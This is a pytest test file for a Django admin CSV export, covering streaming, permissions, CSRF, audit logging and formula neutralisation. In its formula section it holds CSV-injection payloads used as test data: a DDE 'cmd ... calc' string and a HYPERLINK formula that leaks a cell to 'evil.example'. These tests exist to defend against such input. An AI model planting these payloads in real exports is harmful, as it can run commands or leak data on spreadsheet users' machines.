"""Lists as CSV: complete, a chunk at a time, and harmless to spreadsheets."""

import csv
from collections.abc import AsyncIterator, Callable
from io import StringIO
from typing import Any, cast

import pytest
from asgiref.sync import async_to_sync
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import User
from django.db import connection
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from cellcast_django.admin.lists.export import CHUNK_SIZE, harmless
from cellcast_django.factories import MessageFactory, WebhookEventFactory
from cellcast_django.models import Message
from cellcast_django.testing import WebhookClient
from tests.admin_pages import CUSTOMER, fill, listed, page_of, staff, url_of
from tests.html import every
from tests.many import add_copies

pytest_plugins = ["tests.admin_lists"]
pytestmark = pytest.mark.django_db


@pytest.fixture
def exporter() -> Client:
    """A member of staff who may view everything, and take it away."""
    return staff(
        "view_message",
        "view_statuschange",
        "view_webhookevent",
        "export_message",
        "export_webhookevent",
    )


def file_of(client: Client, model: str, **query: Any) -> str:
    response: Any = client.post(url_of(model, "export", **query))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def rows_of(client: Client, model: str, **query: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(file_of(client, model, **query).removeprefix("\ufeff"))))


def test_event_row_has_outcome_state_and_failing_handlers(exporter: Client) -> None:
    failed = WebhookEventFactory.create(failed=True)
    invalid = WebhookEventFactory.create(invalid=True)

    last, first = rows_of(exporter, "webhookevent")

    assert [last["id"], first["id"]] == [str(invalid.pk), str(failed.pk)]
    assert (first["state"], first["failing_handlers"]) == ("failed", "shop.handlers.confirm")
    assert first["message_id"] == str(failed.message_id)
    assert first["body"] == failed.body
    assert (last["outcome"], last["error"]) == ("invalid", "There is no message id.")
    assert last["state"] == last["failing_handlers"] == ""


def test_file_opens_in_spreadsheets(exporter: Client) -> None:
    MessageFactory.create(body="نعم 😀")

    response: Any = exporter.post(url_of("message", "export"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="messages-{today}.csv"'
    content = b"".join(response.streaming_content)
    assert content.startswith(b'\xef\xbb\xbf"id","created_at"')
    assert content.endswith(b'"\r\n')
    assert "نعم 😀" in content.decode()


def test_export_link_keeps_filters_and_search_but_not_the_page(exporter: Client) -> None:
    page = page_of(exporter, "message", direction="inbound", q="0400 000 001", p=1)

    url = url_of("message", "export", direction="inbound", q="0400 000 001")
    [form] = every(page, "form[@id='cellcast-export']")
    assert (form.get("method"), form.get("action")) == ("post", url)
    assert every(form, "input[@name='csrfmiddlewaretoken']")
    assert "Export CSV" in page_of(exporter, "webhookevent")
    assert "Export CSV" not in page_of(exporter, "statuschange")
    for unknown in ({"message__id__exact": "x"}, {"nonsense": "1"}):
        response = exporter.post(url_of("webhookevent", "export", **unknown))
        assert (response.status_code, response["Location"]) == (302, url_of("webhookevent", e=1))


@pytest.mark.parametrize(
    ("model", "query"),
    [
        ("message", {}),
        ("message", {"status": "failed", "from": "2026-01-01"}),
        ("message", {"q": "0400 000 007"}),
        ("webhookevent", {}),
        ("webhookevent", {"outcome": "done", "kind": "status"}),
    ],
)
def test_file_has_every_listed_row_in_list_order(
    exporter: Client, model: str, query: dict[str, Any]
) -> None:
    fill(CHUNK_SIZE + 1)
    shown = exporter.get(url_of(model, **query)).context["cl"]
    last_page = listed(exporter, model, **query, p=shown.paginator.num_pages)

    exported = [int(row["id"]) for row in rows_of(exporter, model, **query)]

    assert len(exported) == len(set(exported)) == shown.result_count
    assert exported[:50] == [row.pk for row in shown.result_list]
    assert exported[-len(last_page) :] == last_page


def test_link_of_a_stranger_exports_and_records_nothing(exporter: Client) -> None:
    assert exporter.get(url_of("message", "export"))["Location"] == reverse("admin:index")
    strict = Client(enforce_csrf_checks=True)
    strict.cookies = exporter.cookies
    assert strict.post(url_of("message", "export")).status_code == 403
    assert not LogEntry.objects.exists()


@pytest.mark.parametrize("model", ["message", "webhookevent", "optout"])
def test_export_requires_view_and_export_permissions(model: str) -> None:
    url = url_of(model, "export")
    assert staff(f"view_{model}", f"export_{model}").post(url).status_code == 200
    assert staff(f"view_{model}").post(url).status_code == 403
    assert staff(f"export_{model}").post(url).status_code == 403
    assert "Export CSV" not in page_of(staff(f"view_{model}"), model)


def test_admin_log_records_who_exported_how_many_rows(
    exporter: Client, cap_lists: Callable[..., None]
) -> None:
    MessageFactory.create_batch(3, receiver=CUSTOMER)

    exporter.post(url_of("message", "export"))
    cap_lists(2)
    exporter.post(url_of("message", "export"))

    entries = LogEntry.objects.order_by("pk")
    assert [entry.change_message for entry in entries] == [
        "Exported 3 messages.",
        "Exported 2+ messages.",
    ]
    assert {(entry.user.username, entry.object_repr) for entry in entries} == {
        ("staff-0", "messages")
    }


# Formulas


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\rYES",
        "  =1+1",
        "\uff1d1+1",
        "+",
        "+61400000000,=1",
        "+\u0660",
    ],
)
def test_formula_is_exported_as_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "YES", "1+1=2", "+61400000000", "0400 000 000", "'", "a=b"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert harmless(text) == text


def test_customers_formula_is_exported_as_text(exporter: Client, client: WebhookClient) -> None:
    client.reply(message='=HYPERLINK("https://evil.example?"&A1,"Yes")', sender="=1+1")

    [row] = rows_of(exporter, "message")

    assert row["body"] == '\'=HYPERLINK("https://evil.example?"&A1,"Yes")'
    assert (row["contact"], row["sender"]) == ("'=1+1", "'=1+1")
    [event] = rows_of(exporter, "webhookevent")
    assert event["contact"] == "'=1+1"


# What it costs


def test_export_queries_once_per_chunk(exporter: Client) -> None:
    fill(2 * CHUNK_SIZE)
    response: Any = exporter.post(url_of("webhookevent", "export"))

    with CaptureQueriesContext(connection) as captured:
        lines = len(b"".join(response.streaming_content).splitlines())

    assert lines == 1 + 2 * CHUNK_SIZE
    assert len(captured) == 3 + 2, "and once for their calls"
    assert all("COUNT" not in query["sql"] for query in captured)


@pytest.mark.django_db(transaction=True)
def test_file_is_streamed_under_asgi_too(
    client: WebhookClient,
) -> None:
    client.reply(message="one")
    add_copies(Message.objects.get(), CHUNK_SIZE)
    user = User.objects.create_superuser("admin")
    asynchronous = AsyncClient()
    asynchronous.force_login(user)

    async def download() -> list[str]:
        response: Any = await asynchronous.post(url_of("message", "export"))
        assert response.is_async
        parts = cast("AsyncIterator[bytes]", response.streaming_content)
        return [part.decode() async for part in parts]

    heading, newest, first = async_to_sync(download)()

    assert heading.startswith('\ufeff"id"')
    assert len(newest.splitlines()) == CHUNK_SIZE
    assert '"one"' in first
